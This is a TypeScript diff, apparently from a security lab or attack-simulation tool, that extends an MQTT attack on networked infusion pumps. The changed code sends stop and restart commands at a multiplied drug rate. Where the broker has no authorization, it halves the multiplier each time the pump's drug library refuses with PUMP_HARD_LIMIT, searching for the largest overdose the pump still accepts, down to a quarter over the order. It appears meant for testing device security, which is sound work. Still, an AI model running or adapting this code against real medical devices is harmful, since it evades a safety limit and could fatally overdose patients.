@@ -72,7 +72,12 @@ export const mqttCommand: Action<typeof params> = {
   },
 };
 
-/** Publishes stop + program to each pump; returns how many the broker acknowledged. */
+/**
+ * Publishes `stop` and a `program` at `factor` times the rate to each pump; returns how many
+ * commands the broker acknowledged. An attacker who can read the results (no broker authorization)
+ * halves the factor while the pump's drug library refuses the rate (PUMP_HARD_LIMIT), as one would
+ * by trial at the keyboard, down to a quarter over the order.
+ */
 async function command(
   context: AttackContext,
   session: MqttSession,
@@ -80,38 +85,54 @@ async function command(
   factor: number,
   items: ClientEvidence[],
 ): Promise<number> {
-  const sent = new Map<string, string>();
-  let answered = 0;
+  const results = new Map<string, { outcome: string; reason?: string | undefined }>();
   session.onMessage((_topic, payload) => {
     const result = commandResultSchema.safeParse(safeJson(payload.toString('utf8')));
-    const about = result.success ? sent.get(result.data.commandId) : undefined;
-    if (!result.success || !about) return;
-    answered += 1;
-    const code =
-      result.data.outcome === 'accepted' ? evidenceCodes.accepted : (result.data.reason ?? 'REJECTED');
-    items.push(evidence('mqtt', code, `pump answered ${about}`, result.data.serial));
+    if (result.success) results.set(result.data.commandId, result.data);
   });
   let acked = 0;
   for (const pump of pumps) {
-    // Best effort: without authorization anyone may read the results; with it, this is refused.
-    await session.subscribe(pumpTopic(pump.serial, 'command-results'));
-    for (const order of commandsFor(pump, factor, context.lab.now())) {
-      sent.set(order.commandId, `${order.kind} ×${factor}`);
-      const published = await session.publish(pumpTopic(pump.serial, 'commands'), JSON.stringify(order));
-      if (published.ok) acked += 1;
-      items.push(
-        published.ok
-          ? evidence('mqtt', evidenceCodes.puback, `${order.kind} acknowledged`, pump.serial)
-          : evidence('mqtt', published.code, `${order.kind}: ${published.line}`, pump.serial),
-      );
-      if (!published.ok) return acked;
+    const readable = (await session.subscribe(pumpTopic(pump.serial, 'command-results'))).ok;
+    for (const [index, order] of commandsFor(pump, factor, context.lab.now()).entries()) {
+      let attempt: Command | undefined = order;
+      for (let tried = factor; attempt; attempt = retry(pump, order, (tried /= 2), context.lab.now())) {
+        const published = await session.publish(pumpTopic(pump.serial, 'commands'), JSON.stringify(attempt));
+        const label = attempt.kind === 'program' ? `program ×${tried}` : attempt.kind;
+        if (!published.ok) {
+          items.push(evidence('mqtt', published.code, `${label}: ${published.line}`, pump.serial));
+          return acked;
+        }
+        acked += 1;
+        items.push(evidence('mqtt', evidenceCodes.puback, `${label} acknowledged`, pump.serial));
+        const result = readable ? await resultOf(results, attempt.commandId, session) : undefined;
+        if (result) {
+          const code = result.outcome === 'accepted' ? evidenceCodes.accepted : (result.reason ?? 'REJECTED');
+          items.push(evidence('mqtt', code, `pump answered ${label}`, pump.serial));
+        }
+        if (index === 0 || result?.reason !== 'PUMP_HARD_LIMIT') break;
+      }
     }
   }
-  const deadline = Date.now() + resultWaitMs;
-  while (acked > 0 && answered < acked && Date.now() < deadline && session.connected) {
-    await new Promise((resolve) => setTimeout(resolve, 50));
-  }
   return acked;
+}
+
+/** The same program at a lower factor, while still a quarter over the order; else undefined. */
+function retry(pump: StatusMessage, order: Command, factor: number, now: number): Command | undefined {
+  if (order.kind !== 'program' || factor < 1.25) return undefined;
+  return commandsFor(pump, factor, now)[1];
+}
+
+/** The pump's answer to `commandId`, waited for a few real seconds; undefined without one. */
+async function resultOf(
+  results: ReadonlyMap<string, { outcome: string; reason?: string | undefined }>,
+  commandId: string,
+  session: MqttSession,
+): Promise<{ outcome: string; reason?: string | undefined } | undefined> {
+  const deadline = Date.now() + resultWaitMs;
+  while (!results.has(commandId) && Date.now() < deadline && session.connected) {
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+  return results.get(commandId);
 }
 
 /** The contract commands that restart `pump`'s infusion at `factor` times its rate. */
